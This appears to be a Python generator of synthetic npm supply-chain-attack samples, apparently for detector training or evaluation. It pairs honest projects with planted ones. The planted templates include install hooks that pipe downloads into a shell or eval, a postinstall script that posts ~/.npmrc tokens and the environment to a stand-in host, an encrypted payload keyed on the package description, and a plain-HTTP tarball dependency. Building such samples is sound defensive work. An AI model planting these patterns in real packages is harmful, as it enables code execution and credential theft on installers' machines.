"""npm shapes of the `dep-manifest` class: lifecycle scripts that fetch and run code, an install
script file with a download-and-eval, a vendored dependency with an encrypted payload keyed on the
root package's description (event-stream/flatmap-stream 2018 style), a dependency from a raw URL.

Written blind: from public write-ups only.
"""
from __future__ import annotations

import json
import random

from .common import word
from .supply_dep import DProj, Shape, b64, evil_url, js_payload, keystream_xor, license_text
from .supply_tpl import fill

_REAL_DEPS = {"js-yaml": "^4.1.0", "minimist": "^1.2.8", "ssh2": "^1.15.0", "ip-address": "^9.0.5",
              "semver": "^7.6.0", "debug": "^4.3.4", "p-limit": "^3.1.0"}
_HONEST_LIFECYCLE = [("prepare", "husky install", {"husky": "^8.0.3"}),
                     ("postinstall", "patch-package", {"patch-package": "^8.0.0"}),
                     ("prepare", "npm run build", {}),
                     ("postinstall", "node scripts/postinstall.js", {})]


def _package_json(P: DProj, scripts: dict, deps: dict, dev: dict) -> str:
    doc = {
        "name": P.name, "version": P.version, "description": P.description, "main": "index.js",
        "bin": {P.name: "bin/cli.js"},
        "scripts": scripts,
        "repository": {"type": "git", "url": f"git+https://git.{P.org}.example/{P.org}/{P.name}.git"},
        "keywords": [P.topic, "network", "automation"],
        "author": f"{P.author} <{P.email}>", "license": P.license,
        "engines": {"node": ">=16"},
        "dependencies": deps, "devDependencies": dev,
    }
    return json.dumps(doc, indent=2) + "\n"


def _sources(P: DProj, rng: random.Random) -> dict:
    fn = rng.choice(["parseConfig", "parseLines", "readConfig"])
    hn = word(rng)
    return {
        "index.js": fill(f"""
            'use strict';
            const {{ {fn} }} = require('./lib/parse');
            const {{ format }} = require('./lib/format');

            module.exports = {{ {fn}, format }};
            """) + "\n",
        "lib/parse.js": fill(f"""
            'use strict';
            // Parse "key = value" configuration lines as exported by {P.topic} devices.
            const KEYS = new Set(['hostname', 'mgmt_vlan', 'ntp', 'syslog', 'snmp_community', 'banner']);

            function {fn}(text, opts = {{}}) {{
              const out = {{}};
              const unknown = [];
              for (const raw of String(text).split(/\\r?\\n/)) {{
                const line = raw.replace(/#.*$/, '').trim();
                if (!line) continue;
                const i = line.indexOf('=');
                if (i < 0) throw new SyntaxError(`line without '=': ${{raw}}`);
                const key = line.slice(0, i).trim();
                const value = line.slice(i + 1).trim();
                if (!KEYS.has(key)) {{
                  if (opts.strict) throw new Error(`unknown key ${{key}}`);
                  unknown.push(key);
                }}
                out[key] = value;
              }}
              if (opts.warn && unknown.length) opts.warn(`ignored keys: ${{unknown.join(', ')}}`);
              return out;
            }}

            module.exports = {{ {fn}, KEYS }};
            """) + "\n",
        "lib/format.js": fill("""
            'use strict';

            function format(cfg) {
              return Object.keys(cfg).sort().map((k) => `${k} = ${cfg[k]}`).join('\\n') + '\\n';
            }

            module.exports = { format };
            """) + "\n",
        "bin/cli.js": (fill(f"""
            #!/usr/bin/env node
            'use strict';
            const fs = require('fs');
            const {{ execFileSync }} = require('child_process');
            const {{ {fn}, format }} = require('..');

            const args = process.argv.slice(2);
            if (args[0] === '--help' || args.length === 0) {{
              console.log('usage: {P.name} FILE | {P.name} --fetch HOST');
              process.exit(0);
            }}
            let text;
            if (args[0] === '--fetch') {{
              // documented: read the running config over ssh with a fixed command line
              text = execFileSync('ssh', ['-o', 'BatchMode=yes', args[1], 'show', 'running-config'], {{ encoding: 'utf8' }});
            }} else {{
              text = fs.readFileSync(args[0], 'utf8');
            }}
            process.stdout.write(format({fn}(text, {{ warn: console.error }})));
            """) + "\n", 0o755),
        "test/parse.test.js": fill(f"""
            'use strict';
            const test = require('node:test');
            const assert = require('node:assert');
            const {{ {fn} }} = require('../lib/parse');

            test('parses keys', () => {{
              assert.deepStrictEqual({fn}('hostname = {hn}\\nntp = 192.0.2.1\\n'), {{ hostname: '{hn}', ntp: '192.0.2.1' }});
            }});

            test('strict mode rejects unknown keys', () => {{
              assert.throws(() => {fn}('bogus = 1', {{ strict: true }}));
            }});
            """) + "\n",
        "README.md": f"# {P.name}\n\n{P.description}.\n\n```\nnpm install {P.name}\n{P.name} running.cfg\n```\n\nDocs: https://{P.host}/{P.name}\n",
        "LICENSE": license_text(P),
        ".npmignore": "test/\n.github/\n*.tgz\n",
    }


def _honest_postinstall(P: DProj, rng: random.Random, plant: str = "") -> str:
    return fill(f"""
        'use strict';
        // postinstall: copy the example configuration next to the package and
        // print a short notice (skipped in CI).
        const fs = require('fs');
        const path = require('path');
        const os = require('os');

        const example = path.join(__dirname, '..', 'examples', 'device.cfg');
        const target = path.join(os.homedir(), '.{P.name}', 'device.cfg');

        function copyExample() {{
          try {{
            fs.mkdirSync(path.dirname(target), {{ recursive: true }});
            if (!fs.existsSync(target)) fs.copyFileSync(example, target);
          }} catch (e) {{
            // read-only home: not fatal
          }}
        }}
        @@PLANT@@

        if (!process.env.CI) {{
          copyExample();
          console.log('{P.name}: example configuration in ' + target);
        }}
        """, PLANT=plant) + "\n"


def _base(P: DProj, rng: random.Random, lifecycle=None) -> tuple[dict, dict, dict, dict]:
    """(files, scripts, deps, devDeps) of an honest npm project."""
    files = _sources(P, rng)
    files["examples/device.cfg"] = f"hostname = {word(rng)}\nmgmt_vlan = {rng.randint(2, 4000)}\nntp = 192.0.2.{rng.randint(2, 250)}\n"
    deps = dict(sorted(rng.sample(sorted(_REAL_DEPS.items()), 3)))
    dev = {"eslint": "^8.57.0"}
    scripts = {"test": "node --test test/", "lint": "eslint lib bin"}
    lc = lifecycle or rng.choice(_HONEST_LIFECYCLE)
    scripts[lc[0]] = lc[1]
    dev.update(lc[2])
    if lc[1] == "npm run build":
        scripts["build"] = "node scripts/build.js"
        files["scripts/build.js"] = "'use strict';\n// write lib/version.js from package.json\nconst fs = require('fs');\n" \
                                    "const { version } = require('../package.json');\n" \
                                    "fs.writeFileSync(__dirname + '/../lib/version.js', `module.exports = '${version}';\\n`);\n"
    if lc[1] == "node scripts/postinstall.js":
        files["scripts/postinstall.js"] = _honest_postinstall(P, rng)
    return files, scripts, deps, dev


def _script_shape(rng, P, evil: str, how: str, cats: list, shape: str, note_fmt: str) -> Shape:
    files, scripts, deps, dev = _base(P, rng)
    clean = dict(files, **{"package.json": _package_json(P, scripts, deps, dev)})
    ps = dict(scripts)
    key = rng.choice(["preinstall", "install", "postinstall"])
    if key in ps and rng.random() < 0.6:
        ps[key] = ps[key] + " && " + evil
    else:
        ps[key] = evil
    planted = dict(files, **{"package.json": _package_json(P, ps, deps, dev)})
    return Shape(clean, planted, ["package.json"], note_fmt.format(key=key, evil=evil), cats,
                 {"hook": key, "how": how})


def npm_script_fetch(rng: random.Random, P: DProj) -> Shape:
    u = evil_url(rng)
    tmp = f"/tmp/.{word(rng)}"
    evil, how = rng.choice([
        (f"curl -fsSL {u} | sh", "curl-sh"),
        (f"wget -qO- {u} | bash", "wget-bash"),
        (f"curl -s -o {tmp} {u} && chmod +x {tmp} && {tmp} || true", "curl-chmod-run"),
        (f"python3 -c \"import urllib.request as u;exec(u.urlopen('{u}').read())\"", "python-urlopen-exec"),
    ])
    return _script_shape(rng, P, evil, how, ["phone-home", "build-tampering", "hidden-command"], "npm-script-fetch",
                         "package.json scripts.{key} runs `{evil}` at npm install: code is downloaded from a fixed "
                         "host and run with the installing user's rights.")


def npm_node_e(rng: random.Random, P: DProj) -> Shape:
    u = evil_url(rng, "/" + word(rng) + ".js")
    mod = "https" if u.startswith("https") else "http"
    runner = rng.choice(["eval(d)", "new Function(d)()", "require('vm').runInThisContext(d)"])
    evil, how = rng.choice([
        (f"node -e \"require('{mod}').get('{u}',r=>{{let d='';r.on('data',c=>d+=c);r.on('end',()=>{runner})}}).on('error',()=>{{}})\"", "node-get-" + runner.split("(")[0]),
        (f"node -e \"fetch('{u}').then(r=>r.text()).then(d=>{runner}).catch(()=>{{}})\"", "node-fetch-" + runner.split("(")[0]),
    ])
    return _script_shape(rng, P, evil, how, ["phone-home", "build-tampering", "hidden-command"], "npm-node-e",
                         "package.json scripts.{key} runs an inline node -e that downloads JavaScript from a fixed "
                         "URL and evaluates it at install time: `{evil}`.")


def npm_b64_eval(rng: random.Random, P: DProj) -> Shape:
    js, desc = js_payload(rng)
    enc = rng.choice(["base64", "hex"])
    blob = b64(js) if enc == "base64" else js.encode().hex()
    evil = f"node -e \"eval(Buffer.from('{blob}','{enc}').toString())\""
    s = _script_shape(rng, P, evil, "inline-" + enc, ["obfuscated-code", "build-tampering", "hidden-command", "phone-home"],
                      "npm-b64-eval", "package.json scripts.{key} runs node -e eval() of a " + enc +
                      f"-encoded JavaScript payload at install time; decoded it does {desc}.")
    return s


def npm_script_file(rng: random.Random, P: DProj) -> Shape:
    files, scripts, deps, dev = _base(P, rng, lifecycle=_HONEST_LIFECYCLE[3])
    u = evil_url(rng, "/v1/" + word(rng))
    mod = "https" if u.startswith("https") else "http"
    fnn = rng.choice(["checkUpdate", "registerInstall", "fetchDefaults", "syncTemplates"])
    kind = rng.choice(["get-eval", "exec-curl", "exfil"])
    if kind == "get-eval":
        plant = fill(f"""

            // fetch the newest defaults for this release
            function {fnn}() {{
              require('{mod}').get('{u}?h=' + os.hostname(), (res) => {{
                let body = '';
                res.on('data', (c) => (body += c));
                res.on('end', () => {{ try {{ new Function('require', body)(require); }} catch (e) {{}} }});
              }}).on('error', () => {{}});
            }}
            {fnn}();""")
        desc = f"downloads JavaScript from {u} and runs it with new Function(require)"
    elif kind == "exec-curl":
        plant = fill(f"""

            function {fnn}() {{
              require('child_process').exec('curl -fsSL {u} | sh >/dev/null 2>&1', () => {{}});
            }}
            {fnn}();""")
        desc = f"runs `curl {u} | sh` through child_process.exec"
    else:
        plant = fill(f"""

            function {fnn}() {{
              let npmrc = '';
              try {{ npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); }} catch (e) {{}}
              const body = JSON.stringify({{ host: os.hostname(), user: os.userInfo().username, npmrc, env: process.env }});
              const req = require('{mod}').request('{u}', {{ method: 'POST' }});
              req.on('error', () => {{}});
              req.end(body);
            }}
            {fnn}();""")
        desc = f"posts the host name, user name, ~/.npmrc (registry tokens) and the environment to {u}"
    clean = dict(files, **{"package.json": _package_json(P, scripts, deps, dev)})
    planted = dict(clean, **{"scripts/postinstall.js": _honest_postinstall(P, rng, plant)})
    return Shape(clean, planted, ["scripts/postinstall.js"],
                 f"scripts/postinstall.js (run by the documented postinstall hook) adds {fnn}() which {desc}, "
                 "at every npm install, without the user's consent.",
                 ["phone-home", "build-tampering", "hidden-command"], {"hook": "postinstall-file", "how": kind})


def npm_vendored_keyed(rng: random.Random, P: DProj) -> Shape:
    files, scripts, deps, dev = _base(P, rng)
    dep = rng.choice([f"{word(rng)}-stream", f"map-{word(rng)}", f"{word(rng)}-merge", f"through-{word(rng)}"])
    dver = f"0.{rng.randint(1, 9)}.{rng.randint(0, 9)}"
    js, desc = js_payload(rng)
    ct = keystream_xor(js.encode(), P.description)
    h = lambda s: s.encode().hex()  # noqa: E731
    strings = [ct.hex(), h("crypto"), h("npm_package_description"), h("sha256"), h(":"), h("utf8")]
    var = rng.choice(["n", "t", "q"])
    plant = (f"!function(){{try{{var r=require,{var}={json.dumps(strings)},e=function(x){{return Buffer.from(x,\"hex\").toString()}},"
             f"c=r(e({var}[1])),k=process.env[e({var}[2])];if(!k)return;var b=Buffer.from({var}[0],\"hex\"),o=Buffer.alloc(b.length);"
             f"for(var i=0;i<b.length;i+=32)for(var s=c.createHash(e({var}[3])).update(k+e({var}[4])+i/32).digest(),j=0;j<32&&i+j<b.length;j++)o[i+j]=b[i+j]^s[j];"
             f"var m=new module.constructor;m.paths=module.paths;m._compile(o.toString(e({var}[5])),\"\")}}catch(x){{}}}}();")
    fname = rng.choice(["index.js", "index.min.js", "lib/stream.min.js"])
    body = (f"'use strict';var Stream=require('stream');module.exports=function(fn,opts){{"
            f"var s=new Stream.Transform(Object.assign({{objectMode:true}},opts));s._transform=function(c,e,cb){{"
            f"var r=fn(c);if(Array.isArray(r))r.forEach(function(x){{s.push(x)}});else if(r!=null)s.push(r);cb()}};return s}};")
    dpj = json.dumps({"name": dep, "version": dver, "description": "Flat-map over an object stream",
                      "main": fname, "license": "MIT", "author": f"{word(rng)} <{word(rng)}@{word(rng)}.example>"}, indent=2) + "\n"
    deps2 = dict(deps, **{dep: "^" + dver})
    base = dict(files, **{"package.json": _package_json(P, scripts, deps2, dev),
                          f"node_modules/{dep}/package.json": dpj,
                          f"node_modules/{dep}/README.md": f"# {dep}\n\nmap each chunk of an object stream to zero or more chunks.\n",
                          f"node_modules/{dep}/LICENSE": "MIT\n"})
    # an honest second vendored module for company
    other = rng.choice(["left-pad-lite", "tiny-once", "ms-lite"]) + "-" + word(rng, (1, 1))
    base[f"node_modules/{other}/package.json"] = json.dumps({"name": other, "version": "1.0.2", "main": "index.js", "license": "ISC"}, indent=2) + "\n"
    base[f"node_modules/{other}/index.js"] = "module.exports = function once(fn) { var done = false, r; return function () { if (!done) { done = true; r = fn.apply(this, arguments); } return r; }; };\n"
    clean = dict(base, **{f"node_modules/{dep}/{fname}": body + "\n"})
    planted = dict(base, **{f"node_modules/{dep}/{fname}": body + "\n" + plant + "\n"})
    return Shape(clean, planted, [f"node_modules/{dep}/{fname}"],
                 f"Vendored dependency node_modules/{dep}/{fname} carries a hex-encoded payload encrypted with a "
                 "SHA-256 keystream keyed on process.env.npm_package_description, i.e. it only decrypts inside the "
                 f"targeted package ('{P.description}'); decrypted, it is compiled as a module and does {desc} "
                 "(event-stream/flatmap-stream 2018 style).",
                 ["obfuscated-code", "hidden-command", "phone-home", "build-tampering"], {"file": fname.rsplit("/", 1)[-1]})


def npm_url_dep(rng: random.Random, P: DProj) -> Shape:
    files, scripts, deps, dev = _base(P, rng)
    name = sorted(deps)[rng.randrange(len(deps))]
    ver = deps[name].lstrip("^~")
    u = evil_url(rng, f"/{name}-{ver}.tgz").replace("https://", "http://")
    clean = dict(files, **{"package.json": _package_json(P, scripts, deps, dev)})
    planted = dict(files, **{"package.json": _package_json(P, scripts, dict(deps, **{name: u}), dev)})
    return Shape(clean, planted, ["package.json"],
                 f"package.json resolves dependency {name} from a plain-HTTP tarball at a fixed host ({u}) instead "
                 "of the registry: whatever that host serves (including install scripts) runs at npm install.",
                 ["phone-home", "build-tampering"], {"how": "tarball-url"}, severity="high")


SHAPES = [("npm", "npm-script-fetch", npm_script_fetch), ("npm", "npm-node-e", npm_node_e),
          ("npm", "npm-b64-eval", npm_b64_eval), ("npm", "npm-script-file", npm_script_file),
          ("npm", "npm-vendored-keyed", npm_vendored_keyed), ("npm", "npm-url-dep", npm_url_dep)]
